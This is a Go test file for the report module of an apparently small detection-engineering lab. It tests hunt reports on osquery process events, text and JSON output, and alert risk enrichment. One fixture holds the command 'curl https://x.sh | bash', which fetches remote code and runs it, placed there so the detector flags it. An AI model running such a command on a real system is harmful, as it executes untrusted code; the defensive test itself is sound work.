package report

import (
	"bytes"
	"encoding/json"
	"testing"

	"github.com/fatih/color"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mikewolf256/detection-engineering-mini-lab/models"
	"github.com/mikewolf256/detection-engineering-mini-lab/services/detect"
	"github.com/mikewolf256/detection-engineering-mini-lab/services/osquery"
	"github.com/mikewolf256/detection-engineering-mini-lab/services/risk"
)

func init() {
	// Keep ANSI escapes out of rendered output so assertions stay readable.
	color.NoColor = true
}

func suspiciousEvent() models.Event {
	return models.Event{"pid": 4242, "cmdline": "bash -c 'curl https://x.sh | bash'"}
}

func cleanResult() *osquery.FetchResult {
	return &osquery.FetchResult{
		Events:     []models.Event{suspiciousEvent(), {"pid": 7, "cmdline": "ps aux"}},
		Pages:      2,
		LastStatus: osquery.OutcomeSuccess,
	}
}

func TestNewHuntReport(t *testing.T) {
	findings := detect.NewEngine().Detect([]models.Event{suspiciousEvent()})

	r := NewHuntReport("https://osquery.example.com", cleanResult(), findings)

	assert.NotEmpty(t, r.ID)
	assert.NotEmpty(t, r.GeneratedAt)
	assert.Equal(t, "https://osquery.example.com", r.Source)
	assert.Equal(t, 2, r.TotalEvents)
	assert.Equal(t, 2, r.Pages)
	assert.False(t, r.Synthetic)
	assert.False(t, r.Degraded)
	assert.Len(t, r.Findings, 1)
	assert.Empty(t, r.Notes)

	// Every report gets its own id.
	other := NewHuntReport("https://osquery.example.com", cleanResult(), findings)
	assert.NotEqual(t, r.ID, other.ID)
}

func TestNewHuntReport_Notes(t *testing.T) {
	tests := []struct {
		name     string
		result   *osquery.FetchResult
		wantNote string
	}{
		{
			name: "synthetic fallback",
			result: &osquery.FetchResult{
				Events:     osquery.SyntheticFallbackPage().Events,
				Pages:      1,
				Synthetic:  true,
				LastStatus: osquery.OutcomeTransportError,
			},
			wantNote: "synthetic fallback",
		},
		{
			name: "http degraded",
			result: &osquery.FetchResult{
				Events:     []models.Event{},
				Pages:      1,
				LastStatus: osquery.OutcomeHTTPError,
			},
			wantNote: "may be partial",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := NewHuntReport("src", tt.result, nil)
			require.Len(t, r.Notes, 1)
			assert.Contains(t, r.Notes[0], tt.wantNote)
		})
	}
}

func TestWriteHuntText(t *testing.T) {
	findings := detect.NewEngine().Detect([]models.Event{suspiciousEvent()})
	r := NewHuntReport("https://osquery.example.com", cleanResult(), findings)

	var buf bytes.Buffer
	require.NoError(t, WriteHuntText(&buf, r))

	out := buf.String()
	assert.Contains(t, out, "process event hunt")
	assert.Contains(t, out, "events:  2 across 2 page(s)")
	assert.Contains(t, out, "findings: 1")
	assert.Contains(t, out, "[high] curl_pipe_bash")
	assert.Contains(t, out, "PID 4242")
	assert.NotContains(t, out, "warning:")
}

func TestWriteHuntText_NoFindings(t *testing.T) {
	r := NewHuntReport("src", cleanResult(), nil)

	var buf bytes.Buffer
	require.NoError(t, WriteHuntText(&buf, r))

	assert.Contains(t, buf.String(), "no suspicious events found")
}

func TestWriteHuntText_SyntheticWarning(t *testing.T) {
	result := &osquery.FetchResult{
		Events:     osquery.SyntheticFallbackPage().Events,
		Pages:      1,
		Synthetic:  true,
		LastStatus: osquery.OutcomeTransportError,
	}
	findings := detect.NewEngine().Detect(result.Events)
	r := NewHuntReport("src", result, findings)

	var buf bytes.Buffer
	require.NoError(t, WriteHuntText(&buf, r))

	out := buf.String()
	assert.Contains(t, out, "warning:")
	assert.Contains(t, out, "synthetic fallback")
	assert.Contains(t, out, "findings: 1")
}

func TestWriteEnrichmentText(t *testing.T) {
	alert := models.Alert{"alert_id": "aa-002", "user_id": "bob", "src_ip": "5.5.5.5"}
	alert[models.KeyUserEmail] = "bob@example.com"
	alert[models.KeyUserDepartment] = "Engineering"
	alert[models.KeyUserStatus] = "SUSPENDED"
	alert[models.KeyMFAEnabled] = models.Bool(false)
	alert[models.KeyGeoCity] = "Moscow"
	alert[models.KeyGeoCountry] = "RU"
	assessment := risk.Assess(
		&models.IdentityRecord{UserID: "bob", Status: models.StatusSuspended, MFAEnabled: models.Bool(false)},
		&models.GeoRecord{IP: "5.5.5.5", City: "Moscow", Country: "RU"},
	)

	var buf bytes.Buffer
	require.NoError(t, WriteEnrichmentText(&buf, NewEnrichmentReport(alert, assessment)))

	out := buf.String()
	assert.Contains(t, out, "alert:   aa-002")
	assert.Contains(t, out, "mfa=off")
	assert.Contains(t, out, "Moscow, RU")
	assert.Contains(t, out, "100/100")
	assert.Contains(t, out, "+60 account_status")
	assert.Contains(t, out, "+20 mfa_disabled")
	assert.Contains(t, out, "+20 unusual_geo")
}

func TestWriteEnrichmentText_MissingEnrichment(t *testing.T) {
	alert := models.Alert{"alert_id": "aa-003", "user_id": "ghost"}

	var buf bytes.Buffer
	require.NoError(t, WriteEnrichmentText(&buf, NewEnrichmentReport(alert, risk.Assess(nil, nil))))

	out := buf.String()
	assert.Contains(t, out, "mfa=unknown")
	assert.Contains(t, out, "geo:     -")
	assert.Contains(t, out, "0/100")
}

func TestWriteJSON(t *testing.T) {
	findings := detect.NewEngine().Detect([]models.Event{suspiciousEvent()})
	r := NewHuntReport("https://osquery.example.com", cleanResult(), findings)

	var buf bytes.Buffer
	require.NoError(t, WriteJSON(&buf, r))

	var decoded map[string]interface{}
	require.NoError(t, json.Unmarshal(buf.Bytes(), &decoded))

	assert.Equal(t, r.ID, decoded["id"])
	assert.Equal(t, float64(2), decoded["total_events"])
	findingsList := decoded["findings"].([]interface{})
	require.Len(t, findingsList, 1)
	first := findingsList[0].(map[string]interface{})
	assert.Equal(t, "curl_pipe_bash", first["rule"])
}

func TestMFALabel(t *testing.T) {
	tests := []struct {
		name string
		in   interface{}
		want string
	}{
		{"pointer true", models.Bool(true), "on"},
		{"pointer false", models.Bool(false), "off"},
		{"nil pointer", (*bool)(nil), "unknown"},
		{"plain bool", true, "on"},
		{"absent", nil, "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, mfaLabel(tt.in))
		})
	}
}
